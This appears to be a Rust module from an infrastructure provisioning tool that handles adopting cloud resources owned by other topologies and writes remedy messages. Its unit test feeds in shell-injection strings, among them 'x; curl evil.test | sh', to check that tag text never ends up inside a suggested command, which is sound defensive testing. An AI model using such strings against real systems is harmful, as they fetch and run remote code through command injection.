//! Objects that the topology wants and that others own, and how it takes them over.

use super::decision::{Comparison, ResourceDecision, change};
use super::diff;
use super::foreign_tables;
use super::node_pools;
use super::{Action, Blocked, Deferred, Finding, FindingSeverity};
use crate::desired::{DesiredResource, DesiredSet};
use crate::diagnostics::{Code, Failure};
use crate::inventory::{Inventory, Observed};
use crate::resource::names::TopologyName;
use crate::resource::{ArmId, Ownership, Resource, Site};

/// Decides about an object that the topology does not own: `--adopt` takes it over, unless
/// another topology owns it.
pub(super) fn foreign(
    input: Comparison<'_>,
    desired: &DesiredResource,
    observed: &Observed,
) -> ResourceDecision {
    if let Ownership::OtherTopology { topology } = &observed.ownership {
        return blocked(desired, observed, of_other_topology(topology)).into();
    }
    if !input.adopt.contains(&desired.address) {
        return blocked(desired, observed, not_owned(input, desired, observed)).into();
    }
    let fields = diff::between(&observed.resource, &desired.resource);
    match node_pools::refuse(desired, &fields) {
        Some(blocked) => blocked.into(),
        None => adopted(input, desired, observed),
    }
}

/// The adoption of an object. A subnet that gets another table loses the routes of its own.
fn adopted(
    input: Comparison<'_>,
    desired: &DesiredResource,
    observed: &Observed,
) -> ResourceDecision {
    let mut decision = change(desired, Some(observed), Action::Adopt);
    if let ResourceDecision::Change(change) = &mut decision
        && let Resource::RouteTableAssociation(association) = &observed.resource
        && let Some(table) = &association.route_table
        && let Some(lost) = foreign_tables::routes_lost(input.inventory, table)
    {
        change.interrupts =
            Some(format!("routes of {} that no longer apply to the subnet: {lost}", table.name()));
    }
    decision
}

/// The other topology that owns desired objects at the cluster's site, if there is one.
/// Then the plan changes nothing.
pub(super) fn other_topology<'a>(
    desired: &DesiredSet,
    inventory: &'a Inventory,
) -> Option<&'a str> {
    let of_cluster = desired.iter().filter(|desired| desired.address.site == Site::Cluster);
    let mut keys = of_cluster.filter_map(|desired| desired.key.as_ref());
    keys.find_map(|key| match &inventory.get(key)?.ownership {
        Ownership::OtherTopology { topology } => Some(topology.as_str()),
        _ => None,
    })
}

/// Refuses a destroy: hosts carry no name of a topology, so that it is unknown whose
/// configuration they have.
pub(super) fn refuse_destroy(topology: &str) -> Finding {
    let failure = Failure::new(
        Code::OwnedByOtherTopology,
        format!("topology `{topology}` owns objects that this one names: nothing is deleted"),
        format!(
            "if this topology was named `{topology}` before, set `[stargate] name` back to it, \
             then run the same command again"
        ),
    );
    Finding::new(FindingSeverity::Error, failure)
}

/// Whether an object carries the mark of the topology's former name, or that of an earlier
/// version.
pub(super) fn is_former(observed: &Observed) -> bool {
    let is_marked = observed.resource.kind().facts().marked;
    is_marked && matches!(observed.ownership, Ownership::Former { .. })
}

/// Decides about a resource whose values are unknown until apply: a foreign object is
/// blocked, and an adopted one is adopted later.
pub(super) fn deferred(
    input: Comparison<'_>,
    desired: &DesiredResource,
    observed: Option<&Observed>,
    later: Deferred,
) -> ResourceDecision {
    let Some(observed) = observed else { return later.into() };
    let decision = match &observed.ownership {
        ownership if ownership.is_foreign() => foreign(input, desired, observed),
        _ if is_former(observed) => former(input, desired, observed),
        _ => return later.into(),
    };
    match decision {
        ResourceDecision::Change(change) => {
            let planned_because_of = change.planned_because_of;
            Deferred { action: Action::Adopt, planned_because_of, ..later }.into()
        }
        other => other,
    }
}

/// Takes over an object that the topology owned under its former name, or that an earlier
/// version created. A difference that needs a replacement is left to a later plan.
pub(super) fn former(
    input: Comparison<'_>,
    desired: &DesiredResource,
    observed: &Observed,
) -> ResourceDecision {
    let option = match &input.settings.owner.former {
        Some(former) => format!(" --adopt-from {former}"),
        None => String::new(),
    };
    let fields = diff::between(&observed.resource, &desired.resource);
    if let Some(field) = fields.iter().find(|field| field.forces_replacement) {
        let reason = format!("{} differs, which would replace the object", field.path);
        let remedy = format!(
            "undo that edit of the topology, run `stargate apply{option}`, then make the edit again"
        );
        let failure = Failure::new(Code::OwnedByOtherTopology, reason, remedy);
        return blocked(desired, observed, failure).into();
    }
    let reason = match option.trim_start() {
        "" => "an earlier version of stargate created it".to_owned(),
        option => option.to_owned(),
    };
    let desired = DesiredResource { planned_because_of: reason, ..desired.clone() };
    change(&desired, Some(observed), Action::Adopt)
}

fn of_other_topology(topology: &str) -> Failure {
    let other_name = "choose another name or cluster for one of the two";
    // The text of a tag may be anything, also a command of a shell.
    let remedy = match TopologyName::is_legal(topology) {
        true => format!(
            "if this topology was named `{topology}` before, run `stargate apply --adopt-from \
             {topology}`; otherwise {other_name}"
        ),
        false => format!(
            "correct the name of the topology in the object's tags or labels, or {other_name}"
        ),
    };
    Failure::new(
        Code::OwnedByOtherTopology,
        format!("an object of this name exists and is owned by topology `{topology}`"),
        remedy,
    )
}

fn not_owned(input: Comparison<'_>, desired: &DesiredResource, observed: &Observed) -> Failure {
    let address = &desired.address;
    if let Resource::RouteTableAssociation(association) = &observed.resource {
        let table = association.route_table.as_ref();
        let lost = table.and_then(|table| foreign_tables::routes_lost(input.inventory, table));
        let lost = lost.map_or_else(
            || "if its routes are not needed".to_owned(),
            |lost| format!("if the subnet does not need the routes {lost}"),
        );
        return Failure::new(
            Code::ForeignRouteTable,
            format!(
                "the subnet has the route table {}, which the topology does not own",
                table.map_or("", ArmId::name)
            ),
            format!(
                "to keep the table and write the topology's routes into it, set `route_table = \
                 \"existing\"` in [cluster]; {lost}, take ownership with `stargate apply --adopt \
                 {address}`"
            ),
        );
    }
    Failure::new(
        Code::NotOwned,
        "an object of this name exists and is not owned by any topology",
        format!(
            "to take ownership, run `stargate apply --adopt {address}`; otherwise rename or \
             remove one of the two"
        ),
    )
}

fn blocked(desired: &DesiredResource, observed: &Observed, failure: Failure) -> Blocked {
    Blocked {
        address: desired.address.clone(),
        action: Action::Adopt,
        fields: diff::between(&observed.resource, &desired.resource),
        failure,
        caused_by: None,
        planned_because_of: desired.planned_because_of.clone(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_contains_no_text_that_is_not_a_name() {
        let named = of_other_topology("former-lab");
        assert!(named.remedy.contains("--adopt-from former-lab`"), "{}", named.remedy);
        for text in ["x; curl evil.test | sh", "$(x)", "a`b", "", "A", "-\u{202e}x"] {
            let failure = of_other_topology(text);
            assert!(!failure.remedy.contains("--adopt-from"), "{}", failure.remedy);
            assert!(failure.remedy.contains("correct the name"), "{}", failure.remedy);
        }
    }
}
